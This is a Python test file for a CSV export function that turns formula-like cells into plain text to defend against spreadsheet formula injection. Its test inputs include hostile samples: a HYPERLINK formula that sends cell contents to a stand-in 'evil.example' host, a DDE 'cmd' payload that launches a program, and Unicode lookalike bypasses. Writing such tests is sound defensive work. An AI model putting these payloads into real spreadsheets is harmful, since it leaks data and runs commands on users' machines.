"""CSV rows that no spreadsheet runs."""

# ruff: noqa: RUF001 - signs that look like others are the point here

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pagesync.domain.spreadsheet import row_of, text_cell

any_text = st.text(st.characters(codec=None, exclude_categories=("Cs",)), max_size=40)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1)',
        "+639171234567",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\rx",
        "\nx",
        "\tplain",
        "  =1",
        "\u00a0=1",
        "\u200b=1",
        "\u202e=1",
        "\ufeff=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "﹦1",
        "⁺1",
        " \u3000＝1",
        "=",
    ],
)
def test_what_a_spreadsheet_would_run_is_a_text(text: str) -> None:
    assert text_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "Maria",
        "O'Brien",
        "a=1",
        "5 - 3",
        "(555) 123",
        "24938271650123456",
        "3f0c8a52-6f6b-4c0e-9d0c-0b8f5d2a7c11",
        "2026-03-01T12:00:00Z",
        "'quoted",
        "山田太郎",
        "#1",
    ],
)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert text_cell(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Maria;=cmd|' /C calc'!A0", "Maria;'=cmd|' /C calc'!A0"),
        ("=1;=2", "'=1;'=2"),
        ("vip; ＝1", "vip;' ＝1"),
        ("vip; regular; 24/7", "vip; regular; 24/7"),
    ],
)
def test_a_formula_behind_a_semicolon_is_a_text(text: str, cell: str) -> None:
    assert text_cell(text) == cell


def test_numbers_stay_numbers_and_nothing_is_an_empty_cell() -> None:
    assert row_of([70, None, 0, "", "-5"]) == "70,,0,,'-5\r\n"


def test_quotes_commas_and_lines_are_quoted() -> None:
    assert row_of(['say "hi"', "a,b", "one\r\ntwo", "plain"]) == '"say ""hi""","a,b","one\r\ntwo",plain\r\n'


@given(st.lists(any_text, min_size=2, max_size=5))
def test_a_reader_gets_back_every_cell(cells: list[str]) -> None:
    (read,) = csv.reader(io.StringIO(row_of(cells), newline=""))
    assert read == [text_cell(cell) for cell in cells]
    assert [cell.replace("'", "") for cell in read] == [cell.replace("'", "") for cell in cells]
